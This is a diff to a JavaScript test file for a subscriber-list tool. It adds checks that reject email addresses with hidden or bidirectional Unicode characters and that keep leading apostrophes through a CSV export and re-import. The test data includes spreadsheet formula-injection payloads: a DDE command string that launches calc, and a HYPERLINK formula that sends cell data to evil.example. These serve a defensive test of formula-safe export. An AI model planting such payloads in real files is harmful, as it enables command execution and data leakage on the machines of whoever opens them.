@@ -32,6 +32,14 @@ test('add, update, remove and purge; addresses trimmed, validated and matched in
   assert.equal((await site.run('subscribers', 'remove', 'ada@example.com')).code, 1);
 });
 
+test('addresses with invisible or direction-changing characters are refused', async (t) => {
+  const site = await makeSite(t);
+  for (const address of ['ab\u202Ecd@example.com', 'ann\u200B@example.com', 'bob\u2066@example.com', 'eve\u00AD@example.com']) {
+    const result = await site.run('subscribers', 'add', address);
+    assert.equal(result.code, 2, JSON.stringify(address));
+  }
+});
+
 test('the IDN and punycode forms of one address are one subscriber', async (t) => {
   const site = await makeSite(t);
   assert.match((await site.run('subscribers', 'add', 'ada@bücher.example')).out, /^added/);
@@ -116,6 +124,7 @@ test('export prints the list as CSV that a spreadsheet cannot read as formulas; 
   const site = await makeSite(t);
   await site.run('subscribers', 'add', 'a@example.com', '--name', 'Ann, A.', '--now', NOW);
   await site.run('subscribers', 'add', "=cmd|'/Ccalc'!A0@example.com", '--name', '=HYPERLINK("http://evil.example/?"&A2,"click")', '--topics', '+work,-life,@home', '--now', NOW);
+  await site.run('subscribers', 'add', "'-x@example.com", '--name', "'quoted", '--now', NOW);
   const exported = (await site.run('subscribers', 'export')).out;
   const lines = exported.split('\n');
   assert.equal(lines[0], 'email,name,status,topics,created_at,updated_at');
@@ -128,9 +137,10 @@ test('export prints the list as CSV that a spreadsheet cannot read as formulas; 
   await site.write('back.csv', `${exported}\n`);
   const other = await makeSite(t);
   await other.write('back.csv', `${exported}\n`);
-  assert.match((await other.run('subscribers', 'import', 'back.csv', '--now', NOW)).out, /imported 2/);
+  assert.match((await other.run('subscribers', 'import', 'back.csv', '--now', NOW)).out, /imported 3/);
   const round = await list(other);
   assert.ok(round.some((row) => row.email === "=cmd|'/Ccalc'!A0@example.com" && row.name.startsWith('=HYPERLINK') && row.topics.join() === '+work,-life,@home'));
+  assert.ok(round.some((row) => row.email === "'-x@example.com" && row.name === "'quoted"), 'a leading apostrophe survives the round trip');
 });
 
 test('concurrent writers lose no row: 12 processes adding at once', async (t) => {
